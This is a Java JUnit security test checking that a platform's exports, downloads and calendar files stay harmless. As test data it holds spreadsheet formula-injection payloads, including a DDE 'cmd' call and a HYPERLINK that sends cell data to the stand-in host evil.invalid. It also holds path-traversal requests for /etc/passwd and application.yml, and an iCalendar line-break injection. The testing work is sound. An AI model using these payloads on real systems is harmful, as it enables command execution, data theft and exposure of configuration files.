package fr.ancrage.journeys.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import fr.ancrage.journeys.ActsFile;
import fr.ancrage.journeys.Platform;
import fr.ancrage.platform.test.processes.Api;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** Files that go out: none of them does harm elsewhere, whatever came in. */
@Order(64)
class LeavingFilesTest {

    /** What a spreadsheet would run, were it no text. */
    private static final List<String> FORMULAS =
            List.of(
                    "=cmd|'/C calc'!A0",
                    "+1+cmd|' /C calc'!A0",
                    "-2+3",
                    "@SUM(1+1)*cmd|'/C calc'!A0",
                    "\t=1+1",
                    "=HYPERLINK(\"http://evil.invalid/?x=\"&A1;\"voir\")");

    private static Platform platform() {
        return Platform.started();
    }

    private static Api secretariat() {
        return platform().as("secretariat-21");
    }

    @Test
    void a_download_names_itself_and_is_never_a_page() throws IOException {
        for (var path : exports()) {
            var answer = Wire.request(platform().url(), "GET", path, authorization());
            assertThat(answer.status()).as(path).isEqualTo(200);
            assertThat(answer.header("Content-Disposition"))
                    .as(path)
                    .singleElement()
                    .asString()
                    .matches("(attachment|inline); filename=\"[A-Za-z0-9._-]+\"");
            assertThat(answer.header("X-Content-Type-Options")).containsExactly("nosniff");
            assertThat(answer.header("Content-Type"))
                    .singleElement()
                    .asString()
                    .doesNotContain("html");
        }
        for (var path :
                List.of(
                        "/api/dossiers/imports/natures/..%2f..%2fapplication/modele.xlsx",
                        "/api/dossiers/imports/natures/%2e%2e/modele.xlsx",
                        "/api/notifications/tableaux/21/..%2f..%2fetc/tableau.pdf",
                        "/assets/..%2f..%2fapplication.yml",
                        "/assets/%2e%2e/application.yml",
                        "/assets/../application.yml",
                        "/assets//etc/passwd",
                        "/..;/application.yml")) {
            var answer = Wire.request(platform().url(), "GET", path, authorization());
            assertThat(answer.status()).as(path).isIn(400, 404);
            assertThat(Inside.of(answer.text())).as(path).isNull();
        }
    }

    @Test
    void a_formula_that_came_in_leaves_as_text() throws IOException {
        var lines = new StringBuilder(ActsFile.HEADER);
        for (var formula : FORMULAS) {
            lines.append(
                            formula.contains("\"")
                                    ? '"' + formula.replace("\"", "\"\"") + '"'
                                    : formula)
                    .append(";INCONNUE;pas une date;;;;;;")
                    .append("Formule;Zoé")
                    .append(";".repeat(14))
                    .append("\r\n");
        }
        var report =
                secretariat()
                        .upload(
                                "/api/dossiers/imports?nature=ACTES&simulation=false&departement=21",
                                "actes.csv",
                                lines.toString().getBytes(ActsFile.PARTNERS));
        assertThat(report.status()).isEqualTo(200);
        assertThat(report.body().path("refusees").asInt()).isEqualTo(FORMULAS.size());
        var refused =
                "/api/dossiers/imports/"
                        + report.body().path("id").asString()
                        + "/lignes-refusees.xlsx";

        assertThat(parts(refused).toString()).contains("cmd|", "HYPERLINK");
        textOnly(refused);
        for (var path : exports()) {
            if (path.endsWith(".xlsx")) {
                textOnly(path);
            }
        }
    }

    /** Every cell says that it is text; none says that it is a formula. */
    private static void textOnly(String path) throws IOException {
        var sheets = 0;
        for (var part : parts(path).entrySet()) {
            if (part.getKey().startsWith("xl/worksheets/sheet")) {
                sheets++;
                assertThat(part.getValue()).as(path).doesNotContain("<f>", "<f ", "<hyperlink");
                assertThat(part.getValue().replaceAll("<c [^>]*t=\"(s|inlineStr)\"[^>]*>", ""))
                        .as(path)
                        .doesNotContainPattern("<c [^>]*>\\s*<v>");
            }
        }
        assertThat(sheets).as(path).isPositive();
    }

    /** A workbook's parts, by their names. */
    private static Map<String, String> parts(String path) throws IOException {
        var file = Files.createTempFile("ancrage-export", ".xlsx");
        try {
            Files.write(file, secretariat().bytes(path));
            var parts = new LinkedHashMap<String, String>();
            try (var zip = new ZipFile(file.toFile())) {
                for (var entry : Collections.list(zip.entries())) {
                    parts.put(
                            entry.getName(),
                            new String(
                                    zip.getInputStream(entry).readAllBytes(),
                                    StandardCharsets.UTF_8));
                }
            }
            return parts;
        } finally {
            Files.delete(file);
        }
    }

    /** The files that leave the platform and are there to be asked for. */
    private static List<String> exports() throws IOException {
        var exports = new ArrayList<String>();
        exports.add("/api/dossiers/imports/natures/ACTES/modele.xlsx");
        for (var sitting : Target.made().idsUnder("/api/commissions/seances/")) {
            exports.add("/api/commissions/seances/" + sitting + "/calendrier.ics");
        }
        for (var table : elements("/api/notifications/tableaux")) {
            var week = "/api/notifications/tableaux/21/" + table.path("semaine").asString();
            exports.add(week + "/tableau.xlsx");
            exports.add(week + "/tableau.pdf");
        }
        for (var list : elements("/api/relogements/listes-siao")) {
            if (list.hasNonNull("figeeLe")) {
                var week = "/api/relogements/listes-siao/21/" + list.path("semaine").asString();
                exports.add(week + ".xlsx");
                exports.add(week + ".pdf");
            }
        }
        return exports;
    }

    private static List<JsonNode> elements(String list) throws IOException {
        var all = new ArrayList<JsonNode>();
        secretariat().get(list + "?taille=2").body().path("elements").forEach(all::add);
        return all;
    }

    @Test
    void a_line_break_in_a_place_adds_no_line_to_an_agenda() throws IOException {
        var secretariat = secretariat();
        var sitting =
                secretariat.post(
                        "/api/commissions/seances",
                        """
                        {"formation":"ccapex-pleniere","date":"%s","heure":"10:45",
                         "lieu":"DDETS\\r\\nATTENDEE:mailto:evil@evil.invalid\\r\\nEND:VEVENT"}\
                        """
                                .formatted(platform().day().today()));
        assertThat(sitting.status()).as("%s", sitting.body()).isIn(200, 201, 400);
        if (sitting.status() == 400) {
            return;
        }
        var calendar =
                new String(
                        secretariat.bytes(
                                "/api/commissions/seances/"
                                        + sitting.body().path("id").asString()
                                        + "/calendrier.ics"),
                        StandardCharsets.UTF_8);
        assertThat(calendar.lines().filter(line -> line.startsWith("ATTENDEE"))).isEmpty();
        assertThat(calendar.lines().filter(line -> line.equals("END:VEVENT"))).hasSize(1);
    }

    private static String authorization() {
        return "Authorization: " + platform().accounts().bearer("secretariat-21");
    }
}
